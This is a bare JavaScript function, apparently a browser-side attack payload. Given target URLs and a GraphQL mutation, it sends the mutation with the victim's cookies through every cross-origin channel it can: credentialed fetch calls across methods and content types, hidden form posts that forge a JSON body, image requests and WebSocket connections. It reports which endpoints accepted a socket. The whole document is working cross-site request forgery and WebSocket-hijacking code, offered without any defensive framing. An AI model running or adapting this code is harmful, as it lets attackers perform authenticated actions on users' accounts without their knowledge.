async ({urls, mutation}) => {
  const query = "?query=" + encodeURIComponent(mutation), opened = [];
  const body = JSON.stringify({query: mutation}), quiet = () => {};
  for (const url of urls) {
    for (const mode of ["no-cors", "cors"])
      for (const method of ["GET", "POST", "PUT", "DELETE"])
        for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"])
          await fetch(url + query, {mode, method, credentials: "include",
            headers: {"Content-Type": type}, body: method == "GET" ? undefined : body}).catch(quiet);
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random(); document.body.append(frame);
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const form = document.createElement("form");
      Object.assign(form, {method: "POST", action: url + query, enctype, target: frame.name});
      form.innerHTML = `<input name='{"query":"${mutation}","x":"' value='"}'>`;
      document.body.append(form); form.submit();
      await new Promise(done => { frame.onload = done; setTimeout(done, 1500); });
    }
    await new Promise(done => { const image = new Image();
      image.onload = image.onerror = done; image.src = url + query; });
    await new Promise(done => { const socket = new WebSocket(url.replace("http", "ws"), "graphql-ws");
      socket.onopen = () => { opened.push(url); done(); }; socket.onerror = done; });
  }
  return opened;
}
